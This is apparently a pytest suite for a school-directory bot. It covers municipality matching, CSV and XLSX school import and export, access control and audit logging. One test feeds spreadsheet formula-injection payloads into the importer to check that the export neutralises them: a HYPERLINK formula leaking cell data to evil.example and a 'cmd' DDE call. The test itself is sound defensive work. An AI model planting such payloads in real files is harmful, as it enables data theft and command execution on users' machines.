from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from bot.services import audit, directory, school_import
from bot.services.errors import AccessDenied
from bot.services.school_import import ImportFileError
from bot.settings import PROJECT_ROOT
from storage.models import AuditEntry, Municipality, Role, School
from tests.support.people import SCHOOLS_CSV, load_schools, person
from tests.support.sheets import csv_fields, xlsx_texts


async def test_eighteen_municipalities_are_shipped(session: AsyncSession) -> None:
    municipalities = await directory.municipalities(session)
    assert len(municipalities) == 18
    codes = {m.code for m in municipalities}
    assert {"kirishsky", "gatchinsky", "sosnovoborsky"} <= codes
    gatchina = next(m for m in municipalities if m.code == "gatchinsky")
    assert gatchina.name == "Гатчинский муниципальный округ"


@pytest.mark.parametrize(
    "spelling",
    [
        "Киришский",
        "Киришский район",
        "Киришский муниципальный район",
        "КИРИШСКИЙ РАЙОН",
        "  киришский  ",
        "Кириши",
        "kirishsky",
        "Киришский МР",
    ],
)
async def test_municipality_names_are_matched_tolerantly(
    session: AsyncSession, spelling: str
) -> None:
    found = (await directory.matcher(session)).match(spelling)
    assert found is not None
    assert found.code == "kirishsky"


async def test_yo_and_e_are_the_same_letter(session: AsyncSession) -> None:
    names = await directory.matcher(session)
    sosnovy = names.match("Сосновоборский городской округ")
    assert sosnovy is not None
    assert names.match("Приозёрский район") == names.match("Приозерский")
    assert names.match("Марсианский район") is None
    assert names.match("") is None


async def test_import_preview_writes_nothing_then_apply_then_reimport_is_a_no_op(
    session: AsyncSession,
) -> None:
    content = SCHOOLS_CSV.encode("utf-8")
    preview = await school_import.preview(session, "schools.csv", content)
    assert (len(preview.new), len(preview.updated), preview.unchanged) == (3, 0, 0)
    assert preview.errors == []
    assert await session.scalar(select(func.count()).select_from(School)) == 0

    applied = await school_import.apply(session, None, "schools.csv", content)
    assert len(applied.new) == 3
    school = await session.scalar(select(School).where(School.code == "47001"))
    assert school is not None
    assert school.full_name == "МОУ «Киришская СОШ №3»"
    assert school.programmes == ["500+", "ШМР"]
    assert school.municipality.code == "kirishsky"

    again = await school_import.preview(session, "schools.csv", content)
    assert (len(again.new), len(again.updated), again.unchanged) == (0, 0, 3)
    assert not again.can_apply
    entries = (await audit.recent(session))[0]
    assert entries.action == "schools.imported"


async def test_import_reports_every_bad_row_with_its_number(session: AsyncSession) -> None:
    content = (
        "code,municipality,full_name,programmes\n"
        "47001,Киришский,МОУ «Киришская СОШ №3»,500+\n"
        ",Киришский,Школа без кода,\n"
        "47003,Атлантида,МОУ «Подводная СОШ»,\n"
        "47004,Лужский,,\n"
        "47001,Лужский,Дубликат кода,\n"
        "\n"
        "47005,Лужский,МОУ «Лужская СОШ №1»,ВОР\n"
    ).encode()
    preview = await school_import.preview(session, "schools.csv", content)
    assert [(e.row, e.reason) for e in preview.errors] == [
        (3, "empty-code"),
        (4, "unknown-municipality"),
        (5, "empty-name"),
        (6, "duplicate-code"),
    ]
    assert preview.errors[1].value == "Атлантида"
    assert [row.code for row in preview.new] == ["47001", "47005"]
    with pytest.raises(Exception, match="import-has-errors"):
        await school_import.apply(session, None, "schools.csv", content)
    assert await session.scalar(select(func.count()).select_from(School)) == 0


async def test_an_upload_is_refused_before_it_is_downloaded(session: AsyncSession) -> None:
    """The service checks who sends the file, and its size as the messenger states it,
    before the file is fetched: a refused one is never downloaded."""
    await load_schools(session)
    admin = await person(session, Role.ADMIN)
    curator = await person(
        session, Role.MUNICIPAL_COORDINATOR, municipality="Киришский", name="Петров Олег"
    )
    downloads: list[str] = []

    async def download() -> bytes:
        downloads.append("fetched")
        return SCHOOLS_CSV.encode()

    with pytest.raises(AccessDenied):
        await school_import.preview_upload(session, curator, "s.csv", 100, download)
    with pytest.raises(ImportFileError, match="import-too-large"):
        await school_import.preview_upload(
            session, admin, "s.csv", school_import.MAX_FILE_BYTES + 1, download
        )
    with pytest.raises(AccessDenied):
        await school_import.apply_upload(session, curator, "s.csv", download)
    assert downloads == []
    preview = await school_import.preview_upload(session, admin, "s.csv", None, download)
    assert preview.unchanged == 3
    applied = await school_import.apply_upload(session, admin, "s.csv", download)
    assert applied.unchanged == 3
    assert downloads == ["fetched", "fetched"]


async def test_import_refuses_unreadable_files(session: AsyncSession) -> None:
    with pytest.raises(ImportFileError) as error:
        await school_import.preview(session, "s.csv", "код;район\n1;Кириши\n".encode("cp1251"))
    assert error.value.reason == "import-encoding"
    assert error.value.details["row"] == 1
    with pytest.raises(ImportFileError) as error:
        await school_import.preview(session, "s.csv", b"name;where\nx;y\n")
    assert error.value.reason == "import-columns"
    with pytest.raises(ImportFileError) as error:
        await school_import.preview(session, "s.pdf", b"%PDF")
    assert error.value.reason == "import-format"
    with pytest.raises(ImportFileError) as error:
        await school_import.preview(session, "s.xlsx", b"not a zip")
    assert error.value.reason == "import-format"


async def test_an_update_is_detected_and_applied(session: AsyncSession) -> None:
    await load_schools(session)
    changed = SCHOOLS_CSV.replace("500+, ШМР", "500+").replace("Тосненский", "Лужский")
    preview = await school_import.preview(session, "s.csv", changed.encode())
    assert sorted(row.code for row in preview.updated) == ["47001", "47101"]
    await school_import.apply(session, None, "s.csv", changed.encode())
    school = await session.scalar(select(School).where(School.code == "47101"))
    assert school is not None
    assert school.municipality.code == "luzhsky"


async def test_xlsx_import_and_export_round_trip(session: AsyncSession) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(
        ["Код", "Муниципалитет", "Полное наименование", "Краткое наименование", "Программы"]
    )
    sheet.append([47001, "Киришский район", "МОУ «Киришская СОШ №3»", "Киришская СОШ №3", "500+"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    applied = await school_import.apply(session, None, "schools.xlsx", buffer.getvalue())
    assert [row.code for row in applied.new] == ["47001"]

    exported = await school_import.export(session, "out.xlsx")
    rows = list(load_workbook(io.BytesIO(exported)).active.iter_rows(values_only=True))  # type: ignore[union-attr]
    assert rows[1] == ("47001", "Киришский", "МОУ «Киришская СОШ №3»", "Киришская СОШ №3", "500+")
    again = await school_import.preview(session, "out.xlsx", exported)
    assert again.unchanged == 1

    csv_export = await school_import.export(session, "out.csv")
    assert csv_export.startswith("\ufeff".encode())
    assert (await school_import.preview(session, "out.csv", csv_export)).unchanged == 1


async def test_the_schools_export_carries_no_formula(session: AsyncSession) -> None:
    hostile = (
        "Код;Муниципалитет;Полное наименование;Краткое наименование;Программы\n"
        '47001;Киришский;"=HYPERLINK(""http://evil.example/?leak=""&A1)";'
        "@SUM(1+1)*cmd|' /C calc'!A0;+500\n"
        "-47002;Тосненский;-Тосненская СОШ;=1+1;\n"
    )
    await school_import.apply(session, None, "s.csv", hostile.encode())
    names = [
        '=HYPERLINK("http://evil.example/?leak="&A1)',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+500",
        "-47002",
        "-Тосненская СОШ",
        "=1+1",
    ]

    exported = await school_import.export(session, "out.xlsx")
    assert set(names) <= set(xlsx_texts(exported))
    assert (await school_import.preview(session, "out.xlsx", exported)).unchanged == 2
    csv_export = await school_import.export(session, "out.csv")
    assert {"'" + name for name in names} <= set(csv_fields(csv_export))
    # The apostrophe is the export's: the file reads back as the same directory.
    assert (await school_import.preview(session, "out.csv", csv_export)).unchanged == 2


async def test_school_search_is_case_and_yo_insensitive_and_paged(session: AsyncSession) -> None:
    schools = await load_schools(session)
    kirishi = schools["47001"].municipality_id
    page = await directory.search_schools(session, kirishi, "киришская")
    assert [s.code for s in page.schools] == ["47001"]
    page = await directory.search_schools(session, kirishi, "СОШ")
    assert page.total == 2
    assert page.pages == 1
    assert (await directory.search_schools(session, kirishi, "тосненская")).total == 0
    rows = "\n".join(f"{47200 + i};Лужский;МОУ «Лужская СОШ №{i}»;;" for i in range(20))
    await school_import.apply(
        session, None, "s.csv", ("Код;Муниципалитет;Полное наименование;;\n" + rows).encode()
    )
    luzhsky = (await directory.matcher(session)).match("Лужский")
    assert luzhsky is not None
    first = await directory.search_schools(session, luzhsky.id, "сош", page=0)
    last = await directory.search_schools(session, luzhsky.id, "сош", page=99)
    assert (first.total, first.pages, len(first.schools)) == (20, 3, 8)
    assert (last.page, len(last.schools)) == (2, 4)


async def test_roster_is_scoped_to_the_coordinators_municipality(session: AsyncSession) -> None:
    schools = await load_schools(session)
    director = await person(session, Role.DIRECTOR, schools=[schools["47001"]])
    curator = await person(
        session, Role.CURATOR, schools=[schools["47001"], schools["47002"]], name="Петров Олег"
    )
    kirishi_coordinator = await person(
        session, Role.MUNICIPAL_COORDINATOR, municipality="Киришский"
    )
    regional = await person(session, Role.REGIONAL_COORDINATOR)

    roster = await directory.roster(session, kirishi_coordinator, schools["47001"].municipality_id)
    by_code = {entry.school.code: entry for entry in roster}
    assert by_code["47001"].director == director
    assert by_code["47001"].curators == [curator]
    assert by_code["47002"].director is None
    assert by_code["47002"].curators == [curator]

    tosno = schools["47101"].municipality_id
    with pytest.raises(AccessDenied):
        await directory.roster(session, kirishi_coordinator, tosno)
    with pytest.raises(AccessDenied):
        await directory.roster(session, director, schools["47001"].municipality_id)
    assert [e.school.code for e in await directory.roster(session, regional, tosno)] == ["47101"]


async def test_renaming_a_municipality_is_for_the_regional_team_and_audited(
    session: AsyncSession,
) -> None:
    regional = await person(session, Role.REGIONAL_COORDINATOR)
    municipal = await person(session, Role.MUNICIPAL_COORDINATOR, municipality="Гатчинский")
    gatchina = (await directory.matcher(session)).match("Гатчинский")
    assert gatchina is not None
    with pytest.raises(AccessDenied):
        await directory.rename_municipality(session, municipal, gatchina.id, "Новое имя")
    renamed = await directory.rename_municipality(
        session, regional, gatchina.id, "Гатчинский  муниципальный   округ (новый)"
    )
    assert renamed.name == "Гатчинский муниципальный округ (новый)"
    refreshed = await session.get(Municipality, gatchina.id)
    assert refreshed is not None
    assert refreshed.code == "gatchinsky"
    entry = await session.scalar(
        select(AuditEntry).where(AuditEntry.action == "municipality.renamed")
    )
    assert entry is not None
    assert entry.actor_id == regional.id


async def test_the_documented_sample_file_imports_cleanly(session: AsyncSession) -> None:
    sample = PROJECT_ROOT / "docs" / "samples" / "schools.csv"
    preview = await school_import.preview(session, sample.name, sample.read_bytes())
    assert preview.errors == []
    assert len(preview.new) == 5
    assert {row.municipality for row in preview.new} == {
        "Киришский",
        "Тосненский",
        "Гатчинский",
        "Сосновоборский",
    }
